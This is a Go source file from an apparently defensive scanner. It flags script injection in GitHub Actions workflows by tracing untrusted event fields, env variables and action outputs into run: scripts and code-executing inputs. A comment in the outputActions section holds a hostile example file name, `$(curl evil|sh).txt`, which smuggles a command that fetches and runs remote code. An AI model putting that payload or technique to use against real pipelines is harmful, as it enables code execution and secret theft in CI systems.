package workflows

import (
	"fmt"
	"sort"
	"strings"

	"github.com/rhysd/actionlint"

	"github.com/threatmap/threatmap"
	"github.com/threatmap/threatmap/evidence"
)

// privilegedTriggers run with the base repository's secrets and a token
// that can write, yet are fired by people outside the project.
var privilegedTriggers = []string{"pull_request_target", "workflow_run", "issues", "issue_comment", "discussion", "discussion_comment", "fork", "watch"}

// publicTriggers are events anyone with a GitHub account can cause on a
// public repository.
var publicTriggers = append([]string{"pull_request", "pull_request_review", "pull_request_review_comment"}, privilegedTriggers...)

// codeInputs names, per action, the inputs whose value the action runs as
// code: a script, a shell command, a jq or yq program, an expression, or
// docker run options. Keys and inputs are lower case (actionlint lowers
// input names).
var codeInputs = map[string][]string{
	"8398a7/action-slack":               {"custom_payload"},
	"actions/github-script":             {"script"},
	"addnab/docker-run-action":          {"options", "run"},
	"amadevus/pwsh-script":              {"script"},
	"appleboy/ssh-action":               {"script"},
	"azure/cli":                         {"inlinescript"},
	"azure/powershell":                  {"inlinescript"},
	"cardinalby/js-eval-action":         {"expression"},
	"devorbitus/yq-action-output":       {"cmd"},
	"garygrossgarten/github-action-ssh": {"command"},
	"gautamkrishnar/blog-post-workflow": {"item_exec"},
	"jannekem/run-python-script-action": {"script"},
	"mikefarah/yq":                      {"cmd"},
	"nick-fields/retry":                 {"command"},
	"nick-invision/retry":               {"command"},
	"sergeysova/jq-action":              {"cmd"},
	"skitionek/notify-microsoft-teams":  {"overwrite"},
}

// shellEntrypoints make a docker:// step's args a shell command.
var shellEntrypoints = map[string]bool{"sh": true, "bash": true, "/bin/sh": true, "/bin/bash": true, "pwsh": true, "python": true, "node": true}

// codeSite is a value that is run as code: a run: script, or an input an
// action executes.
type codeSite struct {
	value *actionlint.String
	// via names the action input, empty for a run: script.
	via string
}

// codeSites lists where a step's values are executed as code.
func (w *Workflow) codeSites(s *actionlint.Step) []codeSite {
	switch e := s.Exec.(type) {
	case *actionlint.ExecRun:
		if e.Run != nil {
			return []codeSite{{value: e.Run}}
		}
	case *actionlint.ExecAction:
		if e.Uses == nil {
			return nil
		}
		r := parseUses(e.Uses.Value)
		var names []string
		switch {
		case r.local:
			names = w.index.codeInputsOf(w.File, r.raw)
		case r.docker:
			if e.Entrypoint != nil && shellEntrypoints[strings.TrimSpace(e.Entrypoint.Value)] {
				names = []string{"args"}
			}
		default:
			names = codeInputs[r.repo]
		}
		var out []codeSite
		for _, name := range names {
			var v *actionlint.String
			switch name {
			case "args":
				v = e.Args
			case "entrypoint":
				v = e.Entrypoint
			default:
				if in := e.Inputs[name]; in != nil {
					v = in.Value
				}
			}
			if v != nil {
				out = append(out, codeSite{value: v, via: name})
			}
		}
		return out
	}
	return nil
}

// checkScriptInjection flags attacker-controlled context values pasted into
// run: scripts and into the inputs of actions that execute them; in a
// reusable workflow or a composite action, the caller's inputs too.
func checkScriptInjection(w *Workflow) []evidence.Finding {
	trigger, privileged := w.hasTrigger(privilegedTriggers...)
	var out []evidence.Finding
	for _, j := range w.Jobs {
		sev := threatmap.High
		why := ""
		if privileged {
			sev = threatmap.Critical
			why = fmt.Sprintf(" on %s, which runs with the repository's secrets%s", trigger, w.tokenClause(j))
		}
		if c := j.WorkflowCall; c != nil && c.Uses != nil {
			tainted := w.taintedEnv(j, nil)
			for _, name := range w.index.codeInputsOf(w.File, c.Uses.Value) {
				in := c.Inputs[name]
				if in == nil || in.Value == nil {
					continue
				}
				for _, u := range valuePaths(in.Value.Value) {
					origin, fsev, ok := w.untrustedOrigin(u.path, tainted, sev)
					if !ok {
						continue
					}
					pos := w.lineOf(in.Value.Pos, in.Value.Value, u.text)
					out = append(out, w.finding(RuleScriptInjection, fsev, pos, j, evidence.NoWorkflowInjection,
						fmt.Sprintf("%s is passed as input %s of the reusable workflow %s, which pastes it into a script%s: whoever writes it can run commands; have the callee read it through env: and quote \"$VAR\"", origin, name, c.Uses.Value, why)))
				}
			}
		}
		outputs := taintedOutputs(j)
		for _, s := range j.Steps {
			tainted := w.taintedEnv(j, s)
			for k, v := range outputs {
				tainted[k] = v
			}
			for _, site := range w.codeSites(s) {
				seen := map[string]bool{}
				where := "the script of job " + jobID(j)
				if site.via != "" {
					where = fmt.Sprintf("the %s input of %s in job %s (run as code)", site.via, str(s.Exec.(*actionlint.ExecAction).Uses), jobID(j))
				}
				if w.action {
					where = strings.Replace(where, "job composite", "this composite action", 1)
				}
				for _, u := range valuePaths(site.value.Value) {
					if seen[u.path] {
						continue
					}
					origin, fsev, ok := w.untrustedOrigin(u.path, tainted, sev)
					if !ok {
						continue
					}
					seen[u.path] = true
					pos := w.lineOf(site.value.Pos, site.value.Value, u.text)
					msg := fmt.Sprintf("%s is pasted into %s%s: whoever writes it can run commands; pass it through env: and quote \"$VAR\" instead", origin, where, why)
					if fsev == threatmap.Medium {
						msg = fmt.Sprintf("%s is pasted into %s: a caller that passes text it does not control (an issue title, a branch name) lets its author run commands; pass it through env: and quote \"$VAR\" instead", origin, where)
					}
					out = append(out, w.finding(RuleScriptInjection, fsev, pos, j, evidence.NoWorkflowInjection, msg))
				}
			}
		}
	}
	return out
}

// untrustedOrigin says whether a context path read in code is controlled by
// someone outside the project, and names it: an untrusted event field, an
// env variable set from one, or an input of a reusable workflow or
// composite action (which its caller fills, at medium severity).
func (w *Workflow) untrustedOrigin(path string, tainted map[string]string, sev threatmap.Severity) (string, threatmap.Severity, bool) {
	if isUntrusted(path) {
		return path, sev, true
	}
	if rest, ok := strings.CutPrefix(path, "steps."); ok {
		if id, _, ok := strings.Cut(rest, ".outputs."); ok {
			if src, ok := tainted["steps."+id+".outputs.*"]; ok {
				return fmt.Sprintf("%s (%s)", path, src), sev, true
			}
		}
	}
	if name, ok := strings.CutPrefix(path, "env."); ok {
		if src, ok := tainted[name]; ok {
			return fmt.Sprintf("%s (set from %s)", path, src), sev, true
		}
	}
	if name, ok := strings.CutPrefix(path, "inputs."); ok && w.callerInput(name) {
		what := "the reusable workflow's input " + name
		if w.action {
			what = "the action's input " + name
		}
		return what, threatmap.Medium, true
	}
	return "", sev, false
}

// callerInput reports whether inputs.name is filled by a caller: any input
// of a composite action, a string input of a workflow_call workflow.
func (w *Workflow) callerInput(name string) bool {
	if w.action {
		return true
	}
	for _, ev := range w.AST.On {
		c, ok := ev.(*actionlint.WorkflowCallEvent)
		if !ok {
			continue
		}
		for _, in := range c.Inputs {
			if in.ID == name || in.Name != nil && strings.EqualFold(in.Name.Value, name) {
				return in.Type != actionlint.WorkflowCallEventInputTypeBoolean && in.Type != actionlint.WorkflowCallEventInputTypeNumber
			}
		}
		// An input the workflow reads but does not declare is still the
		// caller's.
		return true
	}
	return false
}

// taintedEnv maps the env variables visible to a step that are set from
// untrusted values (workflow, job and step env:, the narrower winning) to
// the value they are set from.
func (w *Workflow) taintedEnv(j *actionlint.Job, s *actionlint.Step) map[string]string {
	out := map[string]string{}
	envs := []*actionlint.Env{w.AST.Env, j.Env}
	if s != nil {
		envs = append(envs, s.Env)
	}
	for _, env := range envs {
		if env == nil {
			continue
		}
		for name, v := range env.Vars {
			if v == nil || v.Value == nil {
				continue
			}
			name = strings.ToLower(name)
			delete(out, name)
			var srcs []string
			for _, u := range valuePaths(v.Value.Value) {
				if isUntrusted(u.path) {
					srcs = append(srcs, u.path)
				}
			}
			if len(srcs) > 0 {
				sort.Strings(srcs)
				out[name] = strings.Join(srcs, ", ")
			}
		}
	}
	return out
}

// outputActions are actions whose outputs carry text an outsider chooses:
// file and branch names of the pull request. Pasted into a script, a file
// named `$(curl evil|sh).txt` runs.
var outputActions = map[string]string{
	"tj-actions/changed-files":              "file names from the pull request",
	"dorny/paths-filter":                    "file names from the pull request",
	"tj-actions/branch-names":               "the pull request's branch name",
	"jitterbit/get-changed-files":           "file names from the pull request",
	"lots0logs/gh-action-get-changed-files": "file names from the pull request",
}

// taintedOutputs maps steps.<id>.outputs.* paths of a job's steps that run
// such actions to what they carry. The keys are steps.<id>.outputs.<name>
// for any name, matched by prefix in untrustedOrigin through the
// steps.<id>.outputs. prefix stored with a trailing "*".
func taintedOutputs(j *actionlint.Job) map[string]string {
	out := map[string]string{}
	for _, s := range j.Steps {
		a, ok := s.Exec.(*actionlint.ExecAction)
		if !ok || a.Uses == nil || s.ID == nil || s.ID.Value == "" {
			continue
		}
		if what, ok := outputActions[parseUses(a.Uses.Value).repo]; ok {
			out["steps."+strings.ToLower(s.ID.Value)+".outputs.*"] = "output of " + parseUses(a.Uses.Value).repo + ": " + what
		}
	}
	return out
}
